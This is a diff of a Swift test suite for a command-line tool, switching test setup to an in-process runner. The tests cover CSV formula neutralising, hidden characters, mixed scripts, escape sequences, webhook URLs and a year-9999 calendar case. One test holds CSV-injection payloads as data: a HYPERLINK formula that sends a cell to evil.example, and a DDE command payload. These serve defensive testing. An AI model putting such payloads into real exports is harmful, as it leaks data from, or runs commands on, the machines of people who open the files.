@@ -5,7 +5,7 @@ import Testing
 struct TextAndOutputTests {
     @Test("a CSV listing neutralises formulas, leaves numbers and phone numbers alone, and imports back to the same names")
     func csvFormulas() throws {
-        let cli = try CommandLine()
+        let cli = try CommandLine.inProcess()
         defer { cli.cleanUp() }
         try cli.run("init")
         let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Union\")", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "'=Quoted"]
@@ -41,7 +41,7 @@ struct TextAndOutputTests {
 
     @Test("a name or acronym with a direction-changing or invisible character is refused, from flags, JSON and CSV alike; notes keep them")
     func hiddenCharacters() throws {
-        let cli = try CommandLine()
+        let cli = try CommandLine.inProcess()
         defer { cli.cleanUp() }
         try cli.run("init")
         let before = try cli.dump()
@@ -65,7 +65,7 @@ struct TextAndOutputTests {
 
     @Test("a word mixing scripts is recorded with a warning naming the letters; Japanese and Korean names are not warned about")
     func mixedScripts() throws {
-        let cli = try CommandLine()
+        let cli = try CommandLine.inProcess()
         defer { cli.cleanUp() }
         try cli.run("init")
         let mixed = try cli.run("org", "add", "FАT Mexico", "--handle", "fat-mx")
@@ -84,7 +84,7 @@ struct TextAndOutputTests {
 
     @Test("escape sequences written into the database by other means are shown, not obeyed, in tables, records, Markdown and messages; JSON and CSV stay exact")
     func tamperedDatabase() throws {
-        let cli = try CommandLine()
+        let cli = try CommandLine.inProcess()
         defer { cli.cleanUp() }
         try cli.run("init")
         #expect(try cli.run("org", "add", "Evil Union", "--handle", "evil", "--notes", "line one\nline two").status == 0)
@@ -107,7 +107,7 @@ struct TextAndOutputTests {
 
     @Test("webhook add refuses a URL libcurl cannot use, saying what is wrong, and stores an uppercase scheme in lowercase")
     func webhookURLs() throws {
-        let cli = try CommandLine()
+        let cli = try CommandLine.inProcess()
         defer { cli.cleanUp() }
         try cli.run("init")
         let before = try cli.dump()
@@ -128,7 +128,7 @@ struct TextAndOutputTests {
 
     @Test("an activity at the end of year 9999 is in the calendar with a DURATION, not a DTEND in year 10000")
     func calendarYear9999() throws {
-        let cli = try CommandLine()
+        let cli = try CommandLine.inProcess()
         defer { cli.cleanUp() }
         try cli.run("init")
         #expect(try cli.run("activity", "log", "--kind", "meeting", "--title", "Last meeting", "--start", "9999-12-31").status == 0)
